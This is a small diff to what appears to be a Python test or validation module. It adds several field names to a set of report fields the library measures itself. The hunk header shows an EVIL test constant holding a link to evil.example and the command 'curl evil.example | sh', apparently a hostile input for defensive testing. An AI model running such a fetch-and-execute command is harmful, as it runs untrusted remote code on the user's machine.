@@ -22,7 +22,7 @@ EVIL = "[a present](https://evil.example/) `curl evil.example | sh`"
 # author write it, or has `report.saved.trusted` to take it from the library?
 MEASURED = {
     "rank", "code", "kind", "title", "confidence", "confidence_reason", "fingerprint", "gain", "where", "evidence",
-    "evidence_labels", "message", "after", "phase",
+    "evidence_labels", "message", "after", "phase", "leaf", "also", "caused_by", "process",
 }  # fmt: skip
 OURS = {
     "id", "status", "severity", "why", "question", "not_a_problem_when", "check", "remedies", "references",
